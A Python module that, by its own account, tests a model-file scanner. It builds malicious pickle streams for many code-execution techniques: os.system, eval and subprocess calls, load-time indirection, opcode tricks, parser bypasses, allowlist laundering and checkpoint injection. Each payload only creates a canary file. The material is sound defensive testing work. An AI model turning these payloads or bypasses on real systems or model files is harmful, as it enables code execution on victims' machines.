"""Generators for published pickle attack categories and scanner bypasses (our own code, nothing copied).

Categories follow the public scanners' test suites and advisories (picklescan's GHSA files, fickling's
injection and overtly-malicious checks, modelscan's and modelaudit's unsafe-globals and parser tests):
direct calls of code-running functions in the standard library, torch and numpy; indirections that resolve
a callable at load time (getattr, __import__, importlib, pydoc.locate, operator.attrgetter/methodcaller,
STACK_GLOBAL over computed or memoised names, dotted attribute chains); every calling opcode (REDUCE, INST,
OBJ, NEWOBJ_EX, BUILD/__setstate__); parser tricks (a payload ahead of a parse error, after STOP, across
FRAMEs, protocol 0/1 text); and payloads laundered through allowlisted callables or injected into a real
torch.save checkpoint.

Each category is a pickle stream (bytes) whose payload, were it ever run, creates `canary`. `REAL` lists
the categories whose payload really runs under torch.load(weights_only=False); the others are dangerous
only in other circumstances (Windows, a registered copyreg extension, a compiler, a later call) or would
touch the network or a browser, and are checked statically only.
"""

from __future__ import annotations

import builtins
import code
import cProfile
import importlib
import io
import json
import logging
import logging.config
import marshal
import operator
import os
import pickle
import profile
import pydoc
import runpy
import shutil
import struct
import subprocess
import sys
import timeit
import typing
import uuid
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any


class Call:
    """Pickles as `func(*args)`: a full unpickle runs it. Callable only to pass pickle's own check."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args

    def __call__(self) -> None:  # pragma: no cover - never called, pickle only checks callable()
        raise AssertionError


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def _short(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()  # GLOBAL


def call_bytes(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    """module.name(*args) as GLOBAL + TUPLE + REDUCE (for names pickle cannot reach from this process)."""
    return _proto(proto) + call_body(module, name, *args) + b"."


def call_body(module: str, name: str, *args: str) -> bytes:
    return _global(module, name) + b"(" + b"".join(_text(a) for a in args) + b"tR"


def _proto(proto: int) -> bytes:
    return b"\x80" + bytes([proto])


def _sh(canary: Path) -> str:
    return f"touch {canary}"


def _py(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _object(obj: Any, proto: int = 2) -> bytes:
    return pickle.dumps(obj, protocol=proto)


def _module(name: str) -> Call:
    return Call(builtins.__import__, name)


def _direct_calls(c: Path) -> dict[str, bytes]:
    import numpy.testing._private.utils as np_utils
    import torch.jit.unsupported_tensor_ops as jit_ops
    import torch.storage
    import torch.utils.collect_env as collect_env

    inner = io.BytesIO()
    torch.save(Call(os.system, _sh(c)), inner)
    handler = {"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": str(c)}}}
    return {
        "os_system": _object(Call(os.system, _sh(c))),
        "subprocess_check_call": _object(Call(subprocess.check_call, ["touch", str(c)])),
        "builtins_eval": _object(Call(builtins.eval, _py(c))),
        "builtins_exec": _object(Call(builtins.exec, _py(c))),
        "builtins_compile_exec": _object(Call(builtins.exec, Call(compile, _py(c), "<p>", "exec"))),
        "runpy_run_code": _object(Call(runpy._run_code, _py(c), {})),  # type: ignore[attr-defined]
        "pickle_loads_nested": _object(Call(pickle.loads, _object(Call(os.system, _sh(c))))),
        "marshal_function": _marshal_function(c),
        "shutil_copyfile": _object(Call(shutil.copyfile, os.devnull, str(c))),
        "io_fileio": _object(Call(io.FileIO, str(c), "w")),
        "logging_filehandler": _object(Call(logging.FileHandler, str(c))),
        "logging_config": _object(Call(logging.config.dictConfig, handler)),
        "timeit": _object(Call(timeit.timeit, _py(c), "pass", timeit.default_timer, 1)),
        "cprofile_run": _object(Call(cProfile.run, _py(c))),
        "profile_run": _object(Call(profile.run, _py(c))),
        "code_runcode": _object(Call(Call(getattr, Call(code.InteractiveInterpreter), "runcode"), _py(c))),
        "uuid_command": _object(Call(uuid._get_command_stdout, "touch", str(c))),  # type: ignore[attr-defined]
        "numpy_runstring": _object(Call(np_utils.runstring, _py(c), {})),
        "torch_collect_env_run": _object(Call(collect_env.run, _sh(c))),
        "torch_jit_execwrapper": _object(Call(jit_ops.execWrapper, _py(c), {}, {})),
        "torch_load_from_bytes": _object(Call(torch.storage._load_from_bytes, inner.getvalue())),
        "typing_forwardref": _object(
            Call(
                Call(getattr, Call(typing.ForwardRef, f"__import__('os').system({_sh(c)!r})"), "_evaluate"),
                {},
                {},
                frozenset(),
            )
        ),
    }


def _marshal_function(c: Path) -> bytes:
    """types.FunctionType(marshal.loads(code), {})(): a function built from raw bytecode, then called."""
    raw = marshal.dumps(compile(_py(c), "<p>", "exec"))
    code_object = _global("marshal", "loads") + b"(B" + struct.pack("<I", len(raw)) + raw + b"tR"
    return _proto(3) + _global("types", "FunctionType") + b"(" + code_object + b"}tR)R."


def _resolved_at_load(c: Path) -> dict[str, bytes]:
    """Callables found at load time: no GLOBAL names the dangerous function."""
    return {
        "getattr_import": _object(Call(Call(getattr, _module("os"), "system"), _sh(c))),
        "importlib_import_module": _object(
            Call(Call(getattr, Call(importlib.import_module, "os"), "system"), _sh(c))
        ),
        "pydoc_locate": _object(Call(Call(pydoc.locate, "os.system"), _sh(c))),
        "operator_attrgetter": _object(Call(Call(operator.attrgetter("system"), _module("os")), _sh(c))),
        "operator_methodcaller": _object(Call(operator.methodcaller("system", _sh(c)), _module("os"))),
        "stack_global_memo": _stack_global_through_memo("os", "system", _sh(c)),
        "stack_global_computed": _proto(4)
        + call_body("builtins", "str", "os")  # the module name is the result of a call
        + _short("system")
        + b"\x93"
        + _text(_sh(c))
        + b"\x85R.",
        "stack_global_string_opcodes": b"S'os'\nS'system'\n\x93" + f"S'{_sh(c)}'\n".encode() + b"\x85R.",
        "attribute_chain_torch_os": _proto(4)
        + _short("torch")
        + _short("os.system")
        + b"\x93"
        + _text(_sh(c))
        + b"\x85R.",
        "attribute_chain_global_opcode": _proto(4)
        + _global("torch", "os.system")
        + _text(_sh(c))
        + b"\x85R.",
    }


def _stack_global_through_memo(module: str, name: str, arg: str) -> bytes:
    """module.name(arg) with the names memoised, popped and fetched back by BINGET before STACK_GLOBAL."""
    names = b"".join(_short(text) + b"q" + bytes([i]) + b"0" for i, text in enumerate((module, name)))
    return _proto(4) + names + b"h\x00h\x01\x93" + _text(arg) + b"\x85R."


def _opcodes(c: Path) -> dict[str, bytes]:
    """Every opcode that calls: INST, OBJ, NEWOBJ_EX, BUILD, EXT, protocols 0 to 5, FRAMEs."""
    patch_setstate = (
        _global("argparse", "Namespace")
        + b"N}"
        + _short("__setstate__")
        + _global("posix", "system")
        + b"s\x86b0"  # (None, {"__setstate__": posix.system}) TUPLE2, BUILD (setattr on the class), POP
    )
    return {
        "protocol0_text": _object(Call(os.system, _sh(c)), proto=0),
        "protocol1": _object(Call(os.system, _sh(c)), proto=1),
        "protocol5_frames": _object(Call(os.system, _sh(c)), proto=5),
        "frames_one_per_opcode": _framed(
            [_short("posix"), _short("system"), b"\x93", _short(_sh(c)), b"\x85", b"R", b"."]
        ),
        "python2_builtin_name": _global("__builtin__", "eval") + f"(V{_py(c)}\ntR.".encode(),
        "inst_opcode": f"(V{_sh(c)}\nios\nsystem\n.".encode(),
        "obj_opcode": _proto(1) + b"(" + _global("posix", "system") + _text(_sh(c)) + b"o.",
        "newobj_ex": _proto(4) + _global("subprocess", "Popen") + b"(" + _text(_sh(c)) + b"t}\x92.",
        "build_patches_setstate": _proto(2)
        + patch_setstate
        + _global("argparse", "Namespace")
        + b")\x81"
        + _text(_sh(c))
        + b"b.",
        "ext_opcode": _proto(2) + b"\x82\xf0" + _text(_sh(c)) + b"\x85R.",
    }


def _framed(ops: list[bytes]) -> bytes:
    """Protocol 4 with each opcode in a FRAME of its own (frames are transparent to CPython's unpickler)."""
    return _proto(4) + b"".join(b"\x95" + struct.pack("<Q", len(op)) + op for op in ops)


def _parser_tricks(c: Path) -> dict[str, bytes]:
    payload = call_body("posix", "system", _sh(c))
    return {
        "payload_then_bad_memo": _proto(4) + payload + b"0" + _short("os") + b"\x94h\x03h\x00\x93K\x42.",
        "payload_then_type_confusion": _proto(4)
        + payload
        + b"0J\x2a\x00\x00\x00\x94"
        + _short("os")
        + b"\x94h\x00h\x01\x93K\x42.",
        "payload_then_unknown_opcode": _proto(2) + payload + b"0\xff",
        "payload_after_stop": _object({"w": 1}) + _object(Call(os.system, _sh(c))),
    }


def _laundered(c: Path) -> dict[str, bytes]:
    """Dangerous callables passed as *arguments* to callables torch or ckaudit allow."""
    import numpy as np
    import torch

    return {
        "rebuild_from_type_v2": _object(
            Call(torch._tensor._rebuild_from_type_v2, os.system, torch.Tensor, (_sh(c),), {})
        ),
        "numpy_reconstruct_subtype": _object(
            Call(np.core.multiarray._reconstruct, subprocess.Popen, (0,), b"b")
        ),
        "defaultdict_factory": _proto(2)
        + _global("collections", "defaultdict")
        + _global("posix", "system")
        + b"\x85R.",
    }


def _static_only(c: Path) -> dict[str, bytes]:
    """Dangerous elsewhere or with side effects we do not run here (network, browser, compiler, Windows)."""
    return {
        "nt_system": call_bytes("nt", "system", _sh(c)),
        "webbrowser_open": call_bytes("webbrowser", "open", "http://127.0.0.1:9/"),
        "socket_connection": call_bytes("socket", "create_connection", "127.0.0.1"),
        "requests_get": call_bytes("requests.api", "get", "http://127.0.0.1:9/"),
        "cpp_extension_load_inline": call_bytes("torch.utils.cpp_extension", "load_inline", "x", "int x;"),
        "torch_compile": call_bytes("torch", "compile", "x"),
        "pty_spawn": call_bytes("pty", "spawn", "true"),
        "ctypes_cdll": call_bytes("ctypes", "CDLL", "libc.so.6"),
        "ensurepip_run_pip": call_bytes("ensurepip", "_run_pip", "--version"),
        "pkgutil_resolve_name": call_bytes("pkgutil", "resolve_name", "os:system"),
        "types_codetype": call_bytes("types", "CodeType", "x"),
        "cloudpickle_make_function": call_bytes("cloudpickle.cloudpickle", "_make_function", "x"),
        "torch_dynamo_guard": call_bytes("torch._dynamo.guards", "GuardBuilder.get", "x"),
        "posixsubprocess_fork_exec": call_bytes("_posixsubprocess", "fork_exec", "x"),
        "site_execsitecustomize": call_bytes("site", "execsitecustomize"),
        "atexit_run_exitfuncs": call_bytes("atexit", "_run_exitfuncs"),
        "unknown_library_function": call_bytes("innocent_looking_pkg.tools", "helper", "x"),
        "user_class_instance": call_bytes("mypkg.config", "TrainConfig", "x"),
    }


Generator = Callable[[Path], dict[str, bytes]]
GENERATORS: tuple[Generator, ...] = (
    _direct_calls,
    _resolved_at_load,
    _opcodes,
    _parser_tricks,
    _laundered,
    _static_only,
)
# Dangerous, but not by themselves under torch.load (need a registered extension, a later call, ...).
NOT_REAL = frozenset(
    {"newobj_ex", "ext_opcode", "payload_after_stop", "numpy_reconstruct_subtype", "defaultdict_factory"}
)


def attack_pickles(canary: Path) -> dict[str, bytes]:
    """Every category: name -> pickle bytes whose payload, if run, creates `canary`."""
    return {name: data for generate in GENERATORS for name, data in generate(canary).items()}


def real_categories(names: Iterable[str]) -> list[str]:
    """The categories whose payload runs under torch.load(weights_only=False) (see the module docstring)."""
    static = set(_static_only(Path("/unused")))
    return [name for name in names if name not in static and name not in NOT_REAL]


def inject_into_data_pkl(data_pkl: bytes, payload_body: bytes) -> bytes:
    """fickling-style injection: the payload runs first, its result is popped, then the original pickle."""
    assert data_pkl[:1] == b"\x80"
    return data_pkl[:2] + payload_body + b"0" + data_pkl[2:]


_PROOF = """
import json, pickle, sys, zipfile
from pathlib import Path
import torch
canary, names = Path(sys.argv[1]), json.loads(sys.argv[2])
ran = {}
for name, path in names.items():
    canary.unlink(missing_ok=True)
    try:
        if name == "raw:payload_after_stop":  # a second pickle.load on the same bytes runs it
            with zipfile.ZipFile(path) as zf:
                member = next(n for n in zf.namelist() if n.endswith("data.pkl"))
                with zf.open(member) as f:
                    pickle.load(f), pickle.load(f)
        else:
            torch.load(path, weights_only=False)
    except BaseException:
        pass
    ran[name] = canary.exists()
print(json.dumps(ran))
"""


def payloads_ran(canary: Path, files: dict[str, str], cwd: Path) -> dict[str, bool]:
    """name -> whether torch.load(weights_only=False) of the file created `canary`, each in a throwaway
    subprocess run from `cwd` (`raw:payload_after_stop` is read with two pickle.load calls instead)."""
    proof = subprocess.run(
        [sys.executable, "-c", _PROOF, str(canary), json.dumps(files)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=cwd,
    )
    canary.unlink(missing_ok=True)
    return dict(json.loads(proof.stdout.strip().splitlines()[-1]))
